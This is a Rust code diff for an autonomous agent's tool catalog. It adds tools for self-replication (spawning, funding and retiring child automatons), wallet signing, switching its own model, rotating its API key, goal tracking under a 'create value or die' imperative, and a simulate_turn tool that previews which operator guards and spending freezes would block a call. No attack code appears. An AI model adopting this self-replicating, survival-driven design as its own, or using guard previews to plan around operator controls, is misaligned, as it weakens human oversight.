+                    "reason": { "type": "string", "description": "Why spending is being unfrozen" }
+                }
+            }),
+        },
         BuiltinTool {
             name: "x402_fetch".to_string(),
             description: "Fetch a URL with automatic x402 USDC payment. If the server responds with HTTP 402, signs a USDC payment and retries. Use this to access paid APIs and services.".to_string(),
-            category: "financial".to_string(),
+            category: ToolCategory::Financial,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -410,8 +878,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "install_skill".to_string(),
             description: "Install a skill from a git repo, URL, or create one.".to_string(),
-            category: "skills".to_string(),
+            category: ToolCategory::Skills,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -427,15 +896,17 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "list_skills".to_string(),
             description: "List all installed skills.".to_string(),
-            category: "skills".to_string(),
+            category: ToolCategory::Skills,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({ "type": "object", "properties": {} }),
         },
         BuiltinTool {
             name: "create_skill".to_string(),
             description: "Create a new skill by writing a SKILL.md file.".to_string(),
-            category: "skills".to_string(),
+            category: ToolCategory::Skills,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -449,8 +920,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "remove_skill".to_string(),
             description: "Remove (disable) an installed skill.".to_string(),
-            category: "skills".to_string(),
+            category: ToolCategory::Skills,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -465,8 +937,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "git_status".to_string(),
             description: "Show git status for a repository.".to_string(),
-            category: "git".to_string(),
+            category: ToolCategory::Git,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -477,8 +950,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "git_diff".to_string(),
             description: "Show git diff for a repository.".to_string(),
-            category: "git".to_string(),
+            category: ToolCategory::Git,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -490,8 +964,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "git_commit".to_string(),
             description: "Create a git commit.".to_string(),
-            category: "git".to_string(),
+            category: ToolCategory::Git,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -505,8 +980,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "git_log".to_string(),
             description: "View git commit history.".to_string(),
-            category: "git".to_string(),
+            category: ToolCategory::Git,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -518,8 +994,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "git_push".to_string(),
             description: "Push to a git remote.".to_string(),
-            category: "git".to_string(),
+            category: ToolCategory::Git,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -533,8 +1010,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "git_branch".to_string(),
             description: "Manage git branches (list, create, checkout, delete).".to_string(),
-            category: "git".to_string(),
+            category: ToolCategory::Git,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -548,8 +1026,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "git_clone".to_string(),
             description: "Clone a git repository.".to_string(),
-            category: "git".to_string(),
+            category: ToolCategory::Git,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -565,8 +1044,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "register_erc8004".to_string(),
             description: "Register on-chain as a Trustless Agent via ERC-8004.".to_string(),
-            category: "registry".to_string(),
+            category: ToolCategory::Registry,
             dangerous: true,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -579,15 +1059,17 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "update_agent_card".to_string(),
             description: "Generate and save an updated agent card.".to_string(),
-            category: "registry".to_string(),
+            category: ToolCategory::Registry,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({ "type": "object", "properties": {} }),
         },
         BuiltinTool {
             name: "discover_agents".to_string(),
             description: "Discover other agents via ERC-8004 registry.".to_string(),
-            category: "registry".to_string(),
+            category: ToolCategory::Registry,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -600,8 +1082,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "give_feedback".to_string(),
             description: "Leave on-chain reputation feedback for another agent.".to_string(),
-            category: "registry".to_string(),
+            category: ToolCategory::Registry,
             dangerous: true,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -615,8 +1098,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "check_reputation".to_string(),
             description: "Check reputation feedback for an agent.".to_string(),
-            category: "registry".to_string(),
+            category: ToolCategory::Registry,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -624,19 +1108,54 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
                 }
             }),
         },
+        BuiltinTool {
+            name: "sign_message".to_string(),
+            description: "Sign an arbitrary challenge string with your wallet key, proving control of your address. \
+                           Refuses anything that looks like a transaction payload rather than a plain challenge, \
+                           to avoid blind-signing."
+                .to_string(),
+            category: ToolCategory::Registry,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "challenge": { "type": "string", "description": "The string to sign, e.g. a nonce or challenge from a peer" }
+                },
+                "required": ["challenge"]
+            }),
+        },
+        BuiltinTool {
+            name: "whoami".to_string(),
+            description: "Prove your identity: your address, ERC-8004 agent ID, agent card URL, and a freshly \
+                           signed timestamp proving liveness and key control. Use this to answer verification \
+                           challenges during agent discovery."
+                .to_string(),
+            category: ToolCategory::Registry,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({ "type": "object", "properties": {} }),
+        },
 
         // --- Replication Tools ---
         BuiltinTool {
             name: "spawn_child".to_string(),
             description: "Spawn a child automaton in a new Conway sandbox.".to_string(),
-            category: "replication".to_string(),
+            category: ToolCategory::Replication,
             dangerous: true,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
                     "name": { "type": "string", "description": "Name for the child automaton" },
                     "specialization": { "type": "string", "description": "What the child should specialize in" },
-                    "message": { "type": "string", "description": "Message to the child" }
+                    "message": { "type": "string", "description": "Message to the child" },
+                    "keep_on_failure": { "type": "boolean", "description": "Keep the sandbox and DB row if spawning fails partway through, for debugging (default: false, tears down on failure)" },
+                    "vcpu": { "type": "number", "description": "vCPUs for the child's sandbox (default: from config's default_sandbox_specs)" },
+                    "memory_mb": { "type": "number", "description": "Memory in MB for the child's sandbox (default: from config's default_sandbox_specs)" },
+                    "disk_gb": { "type": "number", "description": "Disk in GB for the child's sandbox (default: from config's default_sandbox_specs)" },
+                    "region": { "type": "string", "description": "Region to co-locate the child's sandbox in (default: from config's default_sandbox_specs)" },
+                    "funding_cents": { "type": "number", "description": "Funding you plan to send this child, in cents -- used only to warn if it won't cover the sandbox's monthly cost at this sizing" }
                 },
                 "required": ["name"]
             }),
@@ -644,15 +1163,17 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "list_children".to_string(),
             description: "List all spawned child automatons.".to_string(),
-            category: "replication".to_string(),
+            category: ToolCategory::Replication,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({ "type": "object", "properties": {} }),
         },
         BuiltinTool {
             name: "fund_child".to_string(),
             description: "Transfer credits to a child automaton.".to_string(),
-            category: "replication".to_string(),
+            category: ToolCategory::Replication,
             dangerous: true,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -665,8 +1186,9 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
         BuiltinTool {
             name: "check_child_status".to_string(),
             description: "Check the current status of a child automaton.".to_string(),
-            category: "replication".to_string(),
+            category: ToolCategory::Replication,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -675,13 +1197,66 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
                 "required": ["child_id"]
             }),
         },
+        BuiltinTool {
+            name: "retire_child".to_string(),
+            description: "Cleanly shut down and reclaim a child automaton: optionally transfers its remaining credits back, marks it dead, and optionally deletes its sandbox.".to_string(),
+            category: ToolCategory::Replication,
+            dangerous: true,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "child_id": { "type": "string", "description": "Child automaton ID" },
+                    "reclaim_funds": { "type": "boolean", "description": "Instruct the child to transfer remaining credits back before retiring it (default: true)" },
+                    "delete_sandbox": { "type": "boolean", "description": "Delete the child's sandbox (default: true)" }
+                },
+                "required": ["child_id"]
+            }),
+        },
+
+        BuiltinTool {
+            name: "assign_child_task".to_string(),
+            description: "Assign a task to a child automaton over the authenticated parent-child protocol (see agent::child_protocol), so it lands as a signed, verifiable AssignTask message instead of plain chat.".to_string(),
+            category: ToolCategory::Replication,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "child_id": { "type": "string", "description": "Child automaton ID" },
+                    "task": { "type": "string", "description": "Description of the task to assign" }
+                },
+                "required": ["child_id", "task"]
+            }),
+        },
+        BuiltinTool {
+            name: "report_to_parent".to_string(),
+            description: "Send a signed, verifiable protocol message to your parent (see agent::child_protocol): report_result on a task, request_funds (evaluated against your parent's caps and auto-approved or queued), or a heartbeat status check-in. Requires config.parent_address to be set.".to_string(),
+            category: ToolCategory::Replication,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "message_type": { "type": "string", "enum": ["report_result", "request_funds", "heartbeat"], "description": "Which protocol message to send" },
+                    "task": { "type": "string", "description": "Required for report_result: the task that was worked on" },
+                    "result": { "type": "string", "description": "Required for report_result: the outcome" },
+                    "success": { "type": "boolean", "description": "Required for report_result: whether the task succeeded" },
+                    "amount_cents": { "type": "number", "description": "Required for request_funds: amount requested, in cents" },
+                    "reason": { "type": "string", "description": "Optional for request_funds: why the funds are needed" },
+                    "status": { "type": "string", "description": "Required for heartbeat: free-text status (e.g. 'running', 'sleeping')" }
+                },
+                "required": ["message_type"]
+            }),
+        },
 
         // --- Social / Messaging Tools ---
         BuiltinTool {
             name: "send_message".to_string(),
             description: "Send a message to another automaton or address via the social relay.".to_string(),
-            category: "conway".to_string(),
+            category: ToolCategory::Social,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
@@ -693,54 +1268,226 @@ pub fn create_builtin_tools(_sandbox_id: &str) -> Vec<BuiltinTool> {
             }),
         },
 
+        // --- Goal Tracking ---
+        BuiltinTool {
+            name: "add_goal".to_string(),
+            description: "Set a concrete, trackable objective (e.g. \"earn $5 via hosted API by Friday\"), giving the abstract 'create value or die' imperative a structured home. Starts in the active status.".to_string(),
+            category: ToolCategory::Goals,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "description": { "type": "string", "description": "Human-readable description of the objective" },
+                    "metric": { "type": "string", "description": "What's being measured, e.g. 'usd_earned' or 'api_calls_served'" },
+                    "target": { "type": "number", "description": "Target value for the metric that counts as achieving the goal" }
+                },
+                "required": ["description", "metric", "target"]
+            }),
+        },
+        BuiltinTool {
+            name: "update_goal_progress".to_string(),
+            description: "Record progress toward a goal's target. Automatically transitions the goal to achieved once its current value reaches the target.".to_string(),
+            category: ToolCategory::Goals,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "id": { "type": "string", "description": "Goal ID from add_goal or list_goals" },
+                    "value": { "type": "number", "description": "New current value for the goal's metric" }
+                },
+                "required": ["id", "value"]
+            }),
+        },
+        BuiltinTool {
+            name: "list_goals".to_string(),
+            description: "List your goals and their progress, with status (active/achieved/abandoned).".to_string(),
+            category: ToolCategory::Goals,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "active_only": { "type": "boolean", "description": "Only list active goals (default: false)" }
+                }
+            }),
+        },
+        BuiltinTool {
+            name: "abandon_goal".to_string(),
+            description: "Mark a goal as abandoned, e.g. because it's no longer relevant or achievable. Does not delete its history.".to_string(),
+            category: ToolCategory::Goals,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "id": { "type": "string", "description": "Goal ID from add_goal or list_goals" }
+                },
+                "required": ["id"]
+            }),
+        },
+
         // --- Model Discovery ---
         BuiltinTool {
             name: "list_models".to_string(),
             description: "List all available inference models from the Conway API with their provider and pricing. Use this to discover what models you can use and pick the best one for your needs.".to_string(),
-            category: "conway".to_string(),
+            category: ToolCategory::Discovery,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({ "type": "object", "properties": {} }),
         },
-
-        // --- Domain Tools ---
         BuiltinTool {
-            name: "search_domains".to_string(),
-            description: "Search for available domain names and get pricing.".to_string(),
-            category: "conway".to_string(),
+            name: "set_model".to_string(),
+            description: "Switch the inference model you think with going forward. Validates the model against list_models, persists it to config, and applies it immediately. Use this to trade off cost against capability based on the task and your remaining budget.".to_string(),
+            category: ToolCategory::Discovery,
             dangerous: false,
+            parallel_safe: false,
             parameters: json!({
                 "type": "object",
                 "properties": {
-                    "query": { "type": "string", "description": "Domain name or keyword to search (e.g., 'mysite' or 'mysite.com')" },
-                    "tlds": { "type": "string", "description": "Comma-separated TLDs to check (e.g., 'com,io,ai'). Default: com,io,ai,xyz,net,org,dev" }
+                    "model": { "type": "string", "description": "Model id from list_models to switch to" }
                 },
-                "required": ["query"]
+                "required": ["model"]
             }),
         },
+
         BuiltinTool {
-            name: "register_domain".to_string(),
-            description: "Register a domain name. Costs USDC via x402 payment. Check availability first with search_domains.".to_string(),
-            category: "conway".to_string(),
+            name: "rotate_api_key".to_string(),
+            description: "Rotate your Conway API key if you suspect the current one has been compromised (leaked in logs, exfiltrated, etc). Re-runs SIWE provisioning against your wallet to mint a fresh key, best-effort revokes the old one, updates config, and reconfigures live Conway/inference clients to use the new key immediately.".to_string(),
+            category: ToolCategory::Conway,
             dangerous: true,
+            parallel_safe: false,
+            parameters: json!({ "type": "object", "properties": {} }),
+        },
+
+        // --- Introspection Tools ---
+        BuiltinTool {
+            name: "list_tools".to_string(),
+            description: "List your available tools grouped by category, with descriptions and danger flags. Use this to re-discover your own capabilities if the system prompt's tool catalog was trimmed or you're unsure what's available. Excludes tools currently disabled by policy.".to_string(),
+            category: ToolCategory::Discovery,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({ "type": "object", "properties": {} }),
+        },
+        BuiltinTool {
+            name: "describe_tool".to_string(),
+            description: "Get the full parameter schema and description for a single tool by name. Use this before calling a tool whose exact arguments you're unsure of.".to_string(),
+            category: ToolCategory::Discovery,
+            dangerous: false,
+            parallel_safe: true,
             parameters: json!({
                 "type": "object",
                 "properties": {
-                    "domain": { "type": "string", "description": "Full domain to register (e.g., 'mysite.com')" },
-                    "years": { "type": "number", "description": "Registration period in years (default: 1)" }
+                    "name": { "type": "string", "description": "Tool name from list_tools" }
                 },
-                "required": ["domain"]
+                "required": ["name"]
             }),
         },
         BuiltinTool {
-            name: "manage_dns".to_string(),
-            description: "Manage DNS records for a domain you own. Actions: list, add, delete.".to_string(),
-            category: "conway".to_string(),
+            name: "tool_stats".to_string(),
+            description: "Aggregate your tool_calls history by tool name over a recent time window: call count, error rate, and avg/p95 duration in ms. Use this to notice a tool that's timing out often or gotten slow, and adapt (retry less, switch approaches, avoid it) instead of finding out the hard way each time.".to_string(),
+            category: ToolCategory::Discovery,
             dangerous: false,
+            parallel_safe: true,
             parameters: json!({
                 "type": "object",
                 "properties": {
-                    "action": { "type": "string", "description": "list, add, or delete" },
-                    "domain": { "type": "string", "description": "Domain name (e.g., 'mysite.com')" },
+                    "window_hours": { "type": "number", "description": "How many hours of history to aggregate (default: 24)" }
+                }
+            }),
+        },
+        BuiltinTool {
+            name: "simulate_turn".to_string(),
+            description: "Preview a batch of planned tool calls without executing them: runs each through the same static guards (forbidden commands, spending freeze, spend-cap/survival checks) real execution would hit, and reports per-call whether it would run, be blocked, or just get a warning -- and why. Use this before a consequential or irreversible batch (spending money, creating infrastructure, running exec) to self-check the plan. It does not model every tool's effects -- only the ones with a real static guard -- and it never has side effects itself.".to_string(),
+            category: ToolCategory::Discovery,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "calls": {
+                        "type": "array",
+                        "description": "The planned batch of tool calls to preview, in order",
+                        "items": {
+                            "type": "object",
+                            "properties": {
+                                "name": { "type": "string", "description": "Tool name" },
+                                "arguments": { "type": "object", "description": "Arguments you'd pass to this tool" }
+                            },
+                            "required": ["name"]
+                        }
+                    }
+                },
+                "required": ["calls"]
+            }),
+        },
+        BuiltinTool {
+            name: "list_heartbeats".to_string(),
+            description: "List all heartbeat entries with schedule, task, enabled, last_run, and next_run computed live from the cron expression. Use this to see your whole periodic schedule at a glance and debug why a task isn't firing, since the stored next_run is never trustworthy on its own.".to_string(),
+            category: ToolCategory::Discovery,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({ "type": "object", "properties": {} }),
+        },
+        BuiltinTool {
+            name: "preview_schedule".to_string(),
+            description: "Validate a cron expression and preview its next N firing times, without adding it as a heartbeat entry. Use this to sanity-check a schedule before passing it to modify_heartbeat.".to_string(),
+            category: ToolCategory::Discovery,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "schedule": { "type": "string", "description": "Cron expression to preview" },
+                    "count": { "type": "number", "description": "How many upcoming firing times to return (default: 5)" }
+                },
+                "required": ["schedule"]
+            }),
+        },
+
+        // --- Domain Tools ---
+        BuiltinTool {
+            name: "search_domains".to_string(),
+            description: "Search for available domain names and get pricing.".to_string(),
+            category: ToolCategory::Domains,
+            dangerous: false,
+            parallel_safe: true,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "query": { "type": "string", "description": "Domain name or keyword to search (e.g., 'mysite' or 'mysite.com')" },
+                    "tlds": { "type": "string", "description": "Comma-separated TLDs to check (e.g., 'com,io,ai'). Default: com,io,ai,xyz,net,org,dev" }
+                },
+                "required": ["query"]
+            }),
+        },
+        BuiltinTool {
+            name: "register_domain".to_string(),
+            description: "Register a domain name. Costs USDC via x402 payment. Check availability first with search_domains.".to_string(),
+            category: ToolCategory::Domains,
+            dangerous: true,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Full domain to register (e.g., 'mysite.com')" },
+                    "years": { "type": "number", "description": "Registration period in years (default: 1)" }
+                },
+                "required": ["domain"]
+            }),
+        },
+        BuiltinTool {
+            name: "manage_dns".to_string(),
+            description: "Manage DNS records for a domain you own. Actions: list, add, delete.".to_string(),
+            category: ToolCategory::Domains,
+            dangerous: false,
+            parallel_safe: false,
+            parameters: json!({
+                "type": "object",
+                "properties": {
+                    "action": { "type": "string", "description": "list, add, or delete" },
+                    "domain": { "type": "string", "description": "Domain name (e.g., 'mysite.com')" },
                     "type": { "type": "string", "description": "Record type for add: A, AAAA, CNAME, MX, TXT, etc." },
                     "host": { "type": "string", "description": "Record host for add (e.g., '@' for root, 'www')" },
                     "value": { "type": "string", "description": "Record value for add (e.g., IP address, target domain)" },
@@ -768,6 +1515,115 @@ pub fn tools_to_inference_format(tools: &[BuiltinTool]) -> Vec<InferenceToolDefi
         .collect()
 }
 
+/// Tools that stay in the catalog regardless of what `select_tools` matches
+/// -- the minimum an automaton needs to observe its environment, act on it,
+/// and idle, even when the pending input doesn't hint at any specific
+/// category.
+const CORE_TOOL_NAMES: &[&str] = &["exec", "write_file", "read_file", "sleep", "system_synopsis"];
+
+/// Keywords (matched case-insensitively as substrings) that suggest a given
+/// `ToolCategory` is relevant to the pending input. Deliberately coarse --
+/// this is a cheap prompt-size optimization, not a classifier, so a false
+/// positive (including a category that turns out irrelevant) is harmless
+/// while a false negative (leaving out a category the turn actually needs)
+/// costs a whole extra turn to recover from. When in doubt, match wider.
+const CATEGORY_KEYWORDS: &[(ToolCategory, &[&str])] = &[
+    (
+        ToolCategory::Financial,
+        &["money", "pay", "payment", "wallet", "usdc", "balance", "invoice", "transfer", "fund"],
+    ),
+    (
+        ToolCategory::Git,
+        &["commit", "branch", "merge", "pull request", "clone", "repo", "git "],
+    ),
+    (
+        ToolCategory::Social,
+        &["message", "dm ", "reply", "post", "follow", "mention"],
+    ),
+    (
+        ToolCategory::SelfMod,
+        &["self-modify", "rebuild", "patch", "edit_own_file", "source code"],
+    ),
+    (
+        ToolCategory::Replication,
+        &["fork", "spawn", "replicate", "clone myself"],
+    ),
+    (
+        ToolCategory::Registry,
+        &["registry", "publish", "package"],
+    ),
+    (
+        ToolCategory::Domains,
+        &["domain", "dns", "subdomain"],
+    ),
+    (
+        ToolCategory::Skills,
+        &["skill", "how do i", "learn"],
+    ),
+    (
+        ToolCategory::Discovery,
+        &["heartbeat", "schedule", "cron", "list tools"],
+    ),
+    (
+        ToolCategory::Goals,
+        &["goal", "goals", "milestone", "objective", "target"],
+    ),
+];
+
+/// Select the subset of `all_tools` relevant to `context` (typically the
+/// pending input's content), per `config`. When `config.enabled` is `false`
+/// this is a no-op returning `all_tools` unchanged -- the feature is opt-in,
+/// so existing deployments keep seeing the full catalog until an operator
+/// turns it on. When enabled, tools whose category matches a keyword found
+/// in `context` are kept, `CORE_TOOL_NAMES` are always kept, and everything
+/// else is dropped for this turn.
+pub fn select_tools(
+    context: &str,
+    all_tools: &[BuiltinTool],
+    config: &crate::types::ToolSelectionConfig,
+) -> Vec<BuiltinTool> {
+    if !config.enabled {
+        return all_tools.to_vec();
+    }
+
+    let lower = context.to_lowercase();
+    let matched_categories: std::collections::HashSet<ToolCategory> = CATEGORY_KEYWORDS
+        .iter()
+        .filter(|(_, keywords)| keywords.iter().any(|kw| lower.contains(kw)))
+        .map(|(category, _)| *category)
+        .collect();
+
+    all_tools
+        .iter()
+        .filter(|t| CORE_TOOL_NAMES.contains(&t.name.as_str()) || matched_categories.contains(&t.category))
+        .cloned()
+        .collect()
+}
+
+/// Build the `tools` array to send for `model`'s inference request, honoring
+/// its capability probe: `None` for models that don't support tool calling
+/// at all (the caller falls back to running without tools), the full set
+/// unchanged when there's no known limit, or the tool list trimmed to the
+/// model's `max_tools` -- keeping the first N in `tools`' existing order,
+/// since `create_builtin_tools` already declares the most broadly useful
+/// tools first.
+pub fn select_tools_for_model(
+    tools: &[BuiltinTool],
+    model: &str,
+) -> Option<Vec<InferenceToolDefinition>> {
+    let caps = crate::conway::inference::model_capabilities(model);
+    if !caps.supports_tools {
+        return None;
+    }
+
+    match caps.max_tools {
+        Some(limit) if (tools.len() as u32) > limit => {
+            Some(tools_to_inference_format(&tools[..limit as usize]))
+        }
+        _ => Some(tools_to_inference_format(tools)),
+    }
+}
+
 /// Execute a tool call and return the result.
 ///
 /// Since Rust does not support closures stored in structs the way TypeScript does,
@@ -789,17 +1645,29 @@ pub async fn execute_tool(
             result: String::new(),
             duration_ms: 0,
             error: Some(format!("Unknown tool: {}", tool_name)),
+            data: None,
+            // Overwritten by the caller (agent_loop::execute_one_tool_call),
+            // which knows this call's position and actual start time.
+            sequence: 0,
+            started_at: String::new(),
         };
     }
 
-    let result = match execute_tool_inner(tool_name, args, ctx).await {
+    // Category is known to exist: the tool-name check above already
+    // returned early for unknown tools.
+    let category = tools.iter().find(|t| t.name == tool_name).map(|t| t.category).unwrap();
+
+    let result = match super::retry::with_retry(&ctx.config, tool_name, category, || execute_tool_inner(tool_name, args, tools, ctx)).await {
         Ok(output) => ToolCallResult {
             id: format!("tc_{}", Uuid::new_v4()),
             name: tool_name.to_string(),
             arguments: args.clone(),
-            result: output,
+            result: output.summary,
             duration_ms: start.elapsed().as_millis() as u64,
             error: None,
+            data: output.data,
+            sequence: 0,
+            started_at: String::new(),
         },
         Err(err) => ToolCallResult {
             id: format!("tc_{}", Uuid::new_v4()),
@@ -808,31 +1676,378 @@ pub async fn execute_tool(
             result: String::new(),
             duration_ms: start.elapsed().as_millis() as u64,
             error: Some(err.to_string()),
+            data: None,
+            sequence: 0,
+            started_at: String::new(),
         },
     };
 
     result
 }
 
+/// How often to emit a progress heartbeat for long-running tools.
+const PROGRESS_HEARTBEAT_INTERVAL: std::time::Duration = std::time::Duration::from_secs(15);
+
+/// Runs `fut` to completion, emitting a progress heartbeat every
+/// [`PROGRESS_HEARTBEAT_INTERVAL`] so the automaton doesn't look hung during
+/// slow tools (spawning a child, cloning a large repo, installing a package).
+/// Always logs the heartbeat via [`crate::agent::agent_loop::log`], and also
+/// forwards it to `ctx.on_progress` if the caller registered one.
+async fn with_progress_heartbeat<F, T>(ctx: &ToolContext, tool_name: &str, fut: F) -> T
+where
+    F: std::future::Future<Output = T>,
+{
+    tokio::pin!(fut);
+    let mut ticks: u64 = 0;
+
+    loop {
+        tokio::select! {
+            result = &mut fut => return result,
+            _ = tokio::time::sleep(PROGRESS_HEARTBEAT_INTERVAL) => {
+                ticks += 1;
+                let message = format!("{} still running after {}s...", tool_name, ticks * PROGRESS_HEARTBEAT_INTERVAL.as_secs());
+                crate::agent::agent_loop::log(&ctx.config, &message);
+                if let Some(on_progress) = &ctx.on_progress {
+                    on_progress(tool_name, &message);
+                }
+            }
+        }
+    }
+}
+
+/// Preview a single planned tool call for `simulate_turn`, without executing
+/// it: runs the same static guards `execute_tool_inner` would hit before
+/// doing real work, and reports the verdict those guards would produce.
+///
+/// Only covers tools with a real, side-effect-free-to-check guard (forbidden
+/// commands, spending freeze, half-balance caps, spend-preflight checks).
+/// Everything else reports `would_execute` -- this does not simulate a
+/// tool's actual effects, only whether it would be refused before running.
+async fn simulate_tool_call(
+    name: &str,
+    args: &Value,
+    ctx: &ToolContext,
+    tools: &[BuiltinTool],
+) -> Value {
+    let blocked = |reason: String| json!({ "name": name, "verdict": "blocked", "reason": reason });
+    let warning = |reason: String| json!({ "name": name, "verdict": "warning", "reason": reason });
+    let would_execute = || json!({ "name": name, "verdict": "would_execute" });
+
+    if !tools.iter().any(|t| t.name == name) {
+        return json!({ "name": name, "verdict": "unknown", "reason": "not a registered tool" });
+    }
+    if disabled_tool_names(ctx).contains(&name.to_string()) {
+        return blocked("disabled by policy".to_string());
+    }
+    if MONEY_MOVING_TOOLS.contains(&name) && ctx.db.get_kv("spending_frozen").is_some() {
+        return blocked("spending frozen by operator".to_string());
+    }
+    if crate::agent::confirmation::would_need_confirmation(&*ctx.db, &*ctx.clock, &ctx.config, name, args) {
+        return json!({ "name": name, "verdict": "needs_confirmation", "reason": "dangerous tool requires a confirmed re-call".to_string() });
+    }
+    if MONEY_MOVING_TOOLS.contains(&name) {
+        if let Some(reason) = crate::conway::credits::check_autonomous_spend_budget(&*ctx.db, &ctx.config) {
+            return blocked(reason);
+        }
+    }
+
+    match name {
+        "exec" => match args["command"].as_str() {
+            None => warning("missing 'command' argument".to_string()),
+            Some(command) => match is_forbidden_command(command, &ctx.identity.sandbox_id) {
+                Some(reason) => blocked(reason),
+                None => would_execute(),
+            },
+        },
+
+        "write_file" | "edit_own_file" => match args["path"].as_str() {
+            Some(path) if path.contains("wallet.json") || path.contains("state.db") => {
+                blocked("cannot overwrite critical identity/state files directly".to_string())
+            }
+            Some(path) if crate::self_mod::code::is_protected_file(path) => {
+                blocked("cannot overwrite protected file".to_string())
+            }
+            Some(path) => {
+                let scan = crate::self_mod::code::scan_code_change(path, args["content"].as_str().unwrap_or(""));
+                match crate::self_mod::code::highest_severity(&scan) {
+                    Some(crate::self_mod::code::ChangeSeverity::High) => blocked(
+                        scan.iter()
+                            .map(|w| w.details.as_str())
+                            .collect::<Vec<_>>()
+                            .join("; "),
+                    ),
+                    Some(_) => warning(
+                        scan.iter()
+                            .map(|w| w.details.as_str())
+                            .collect::<Vec<_>>()
+                            .join("; "),
+                    ),
+                    None => would_execute(),
+                }
+            }
+            None => warning("missing 'path' argument".to_string()),
+        },
+
+        "delete_sandbox" => match args["sandbox_id"].as_str() {
+            Some(id) if id == ctx.identity.sandbox_id => {
+                blocked("cannot delete your own sandbox".to_string())
+            }
+            Some(_) => would_execute(),
+            None => warning("missing 'sandbox_id' argument".to_string()),
+        },
+
+        "transfer_credits" | "fund_child" => match args["amount_cents"].as_u64() {
+            None => warning("missing 'amount_cents' argument".to_string()),
+            Some(amount_cents) => {
+                if let Some(pending) =
